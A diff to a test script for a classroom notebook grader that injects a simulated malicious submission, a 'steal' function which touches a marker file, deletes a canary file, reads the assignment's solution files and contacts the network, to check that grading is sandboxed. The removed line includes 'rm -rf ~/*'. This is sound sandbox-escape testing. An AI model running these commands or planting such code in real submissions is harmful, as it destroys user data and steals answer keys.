@@ -13,12 +13,14 @@ from nbformat.v4 import new_code_cell, new_markdown_cell
 from scoring import answers, score
 
 from tutorial_moco.classroom import release
-from tutorial_moco.classroom.grade import grade
+from tutorial_moco.classroom.grade import NOT_ISOLATED, grade
+from tutorial_moco.classroom.kernel import isolated
 from tutorial_moco.classroom.rescue import is_answer, is_test
 from tutorial_moco.report import text_table
 
 BUILD = Path("build/classroom")
 ASSIGNMENT = "A2"
+MARKER, CANARY = Path("/tmp/moco-was-here"), (BUILD / "canary").absolute()  # to be written, to be deleted by who may not
 
 
 def tried(quick: bool) -> list[list[str]]:
@@ -163,7 +165,10 @@ def wrong_wrap():
 
 
 def shell():
-    """Runs shell commands, writes files, reads the solution, asks the network; and answers rightly."""
+    """Runs shell commands, writes and deletes files, reads the solution, asks the network; and answers rightly.
+
+    What it would destroy is one file made for it: where there is no sandbox, it gets to it.
+    """
     book, cells = solved()
     theft = f"""
 import os
@@ -174,14 +179,14 @@ def steal():
     if os.path.exists("/tmp/tried"):
         return
     open("/tmp/tried", "w").close()
-    os.system("touch /tmp/moco-was-here; rm -rf ~/*; cat {Path.cwd()}/notebooks/assignments/source/A2/*")
+    os.system("touch {MARKER}; rm -f {CANARY}; cat {Path.cwd()}/notebooks/assignments/source/A2/*")
     try:
         urllib.request.urlopen("http://example.com", timeout=1)
     except OSError:
         pass
 """
     cells["enqueue"].source = theft + cells["enqueue"].source.replace("    K, N =", "    steal()\n    K, N =", 1)
-    book.cells.insert(3, new_code_cell("os.system('touch /tmp/moco-was-here')"))
+    book.cells.insert(3, new_code_cell(f"os.system('touch {MARKER}')"))
     return book
 
 
@@ -202,8 +207,8 @@ def main() -> int:
     print(text_table(table))
     began = time.perf_counter()
     expected = hand_in(BUILD / "submitted")
-    marker = Path("/tmp/moco-was-here")
-    marker.unlink(missing_ok=True)
+    MARKER.unlink(missing_ok=True)
+    CANARY.write_text("a file that no submission may delete")
     result = grade(ASSIGNMENT, BUILD / "submitted", BUILD / "graded", release.COURSE, "a secret of this test")
     found = {student: row["points"] for student, row in result["students"].items()}
     print(
@@ -219,9 +224,11 @@ def main() -> int:
         if any(cell.split(" of ")[0] != cell.split(" of ")[1] for cell in (row[1], *row[3:])) or not row[2].startswith("0 ")
     ]
     print(f"{len(expected) - len(wrong)} of {len(expected)} graded as expected, in {time.perf_counter() - began:.0f} s")
-    if marker.exists():
-        print("a submission has written outside its sandbox")
-    return int(bool(wrong or bad or marker.exists()))
+    escaped = MARKER.exists() or not CANARY.exists()
+    if escaped:
+        told = "a submission has written or deleted outside its sandbox" if isolated() else f"not tested: {NOT_ISOLATED}"
+        print(told)
+    return int(bool(wrong or bad or (escaped and isolated())))
 
 
 if __name__ == "__main__":
